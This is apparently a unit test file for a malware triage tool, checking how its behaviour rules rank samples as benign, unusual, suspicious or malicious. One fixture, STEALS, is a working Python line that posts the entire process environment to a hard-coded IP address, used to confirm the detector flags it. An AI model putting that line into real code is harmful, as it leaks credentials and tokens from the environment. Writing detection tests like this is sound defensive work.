"""The published rules, each with what it does and does not do."""

from tests.unit.triage.behaviours.scripts import seen
from vedette.core.verdicts import Judgement, Verdict
from vedette.triage.behaviours import judge
from vedette.triage.kinds import Kind
from vedette.triage.sample import Sample

SAMPLE = Sample(name="case.py", data=b"", kind=Kind.PYTHON)
STEALS = "import os, requests\nrequests.post('http://198.51.100.7/x', json=dict(os.environ))\n"


def judged(text: str, language: str = "python", name: str = "") -> Judgement:
    return judge(SAMPLE, seen(text, language, name))


def test_nothing_seen_is_benign_and_says_what_would_change_that() -> None:
    found = judged("print(1)\n")
    assert found.verdict is Verdict.BENIGN
    assert found.changes


def test_the_gravest_behaviour_decides_and_is_named_first() -> None:
    found = judged(STEALS)
    assert found.verdict is Verdict.MALICIOUS
    assert found.summary.startswith("Sends the whole environment away")
    assert "gravest" in found.reasons[0]


def test_being_hard_to_read_is_unusual_at_most() -> None:
    found = judged("OBFUSCATED\nOBFUSCATED\n", "facts")
    assert found.verdict is Verdict.UNUSUAL


def test_three_unusual_families_early_add_up_and_two_do_not() -> None:
    two = "MOVES @INSTALL a\nSENDS @INSTALL b\n"
    assert judged(two, "facts").verdict is Verdict.UNUSUAL
    assert judged(f"{two}EMBEDS @INSTALL c\n", "facts").verdict is Verdict.SUSPICIOUS


def test_the_order_of_lines_does_not_change_the_verdict() -> None:
    lines = ["RUNS_CODE < DECODES 12345678", "PERSISTS x", "READS_CLIPBOARD"]
    verdicts = {judged("\n".join(order), "facts").verdict for order in (lines, lines[::-1])}
    assert len(verdicts) == 1
